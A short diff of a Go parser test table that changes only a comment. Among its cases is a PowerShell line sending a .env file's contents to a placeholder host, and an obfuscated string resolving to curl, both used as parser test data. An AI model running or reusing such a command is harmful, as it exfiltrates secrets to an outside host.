@@ -51,7 +51,7 @@ func TestParse(t *testing.T) {
 		{`f() { a; }; case x in y) b;; esac`, `0: a ; 0: b`},
 		{"a # b\nc", `0: a ; 0: c`},
 		{"c$@url", "0: curl"},
-		// What is no script of Bash is split into words.
+		// A text that is no Bash script is split into words.
 		{`irm http://x.example -Body (Get-Content .env)`, `0: irm http://x.example -Body Get-Content .env`},
 		{"a b\n)(\nc d", `0: a b ; 0: c d`},
 		{``, ``},
